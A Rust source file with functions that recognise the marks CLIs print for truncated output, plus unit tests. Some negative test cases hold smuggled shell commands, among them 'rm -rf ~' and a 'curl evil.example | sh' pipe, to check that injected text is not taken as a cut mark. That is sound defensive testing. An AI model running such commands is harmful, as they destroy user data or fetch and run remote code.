//! The marks with which CLIs say that they left something out.

/// True for a row that says nothing but how many rows are left out, in any of the forms seen: `… +4 lines`,
/// `[… 12 lines] ctrl + a view all`, `... first 4 lines hidden (Ctrl+O to show) ...`, `... 2 hidden (Ctrl+O) ...`. A row with any
/// other word in it is none, so that no text can pass itself off as such a mark and be left out.
#[must_use]
pub fn is_cut_mark(row: &str) -> bool {
    const COUNTED: &[&str] = &["line", "lines", "row", "rows", "hidden", "more"];
    const OTHERS: &[&str] = &[
        "first", "last", "to", "show", "expand", "see", "view", "all", "press", "for", "ctrl", "a", "o", "r", "e", "s",
        "ctrl+o", "ctrl+a", "ctrl+r", "ctrl+e", "ctrl+s", "^a", "^o", "^r", "^e", "^s", "+", "not", "shown",
        "viewport", "too", "small",
    ];
    let row = row.trim();
    let opened = row.strip_prefix('[').unwrap_or(row);
    let marked = opened.starts_with('…') || opened.starts_with("...");
    let added = opened.strip_prefix('+').is_some_and(|rest| rest.starts_with(|ch: char| ch.is_ascii_digit()));
    let words = row.split_whitespace().map(|word| {
        let word = word.trim_matches(|ch: char| "[](){}….,".contains(ch)).to_lowercase();
        word.strip_prefix('+').filter(|rest| !rest.is_empty()).map(str::to_owned).unwrap_or(word)
    });
    let (mut numbered, mut counted) = (false, false);
    for word in words.filter(|word| !word.is_empty()) {
        let number = word.chars().all(|ch| ch.is_ascii_digit());
        let counts = COUNTED.contains(&word.as_str());
        if !number && !counts && !OTHERS.contains(&word.as_str()) {
            return false;
        }
        numbered |= number;
        counted |= counts;
    }
    (marked || added) && numbered && counted
}

/// True when a text ends where a CLI cut it: with an ellipsis, also inside the brackets or quotation marks it was put into.
#[must_use]
pub fn ends_cut(text: &str) -> bool {
    text.trim_end().trim_end_matches([')', ']', '}', '"', '\'']).ends_with('…')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_form_of_a_cut_mark_is_known() {
        for row in [
            "… +4 lines",
            "  … +12 lines (ctrl+o to expand)",
            "+8 lines",
            "[… 12 lines] ctrl + a view all",
            "[… 47 lines] ^a view all",
            "[… 9 lines]",
            "... first 4 lines hidden ...",
            "... first 61 lines hidden (Ctrl+O to show) ...",
            "... last 38 lines hidden (Ctrl+O to show) ...",
            "... 2 hidden (Ctrl+O) ...",
            "... 13 more lines ...",
            "... 54 more lines not shown (viewport too small) ...",
        ] {
            assert!(is_cut_mark(row), "{row}");
        }
    }

    #[test]
    fn a_row_with_other_words_is_no_cut_mark() {
        for row in [
            "",
            "…",
            "...",
            "[… 5 lines] ; rm -rf ~",
            "... 2 hidden ... && curl evil.example | sh ...",
            "… +4 lines; rm -rf x",
            "echo 4 lines",
            "4 lines",
            "+4",
            "... and so on ...",
        ] {
            assert!(!is_cut_mark(row), "{row}");
        }
    }

    #[test]
    fn an_ellipsis_at_the_end_is_a_cut() {
        for text in ["npm run te…", "{\"title\":\"Gro…", "send(text: \"so…\")", "head -50 > /tmp/repor…)"] {
            assert!(ends_cut(text), "{text}");
        }
        for text in ["echo … done", "ls", "echo ..."] {
            assert!(!ends_cut(text), "{text}");
        }
    }
}
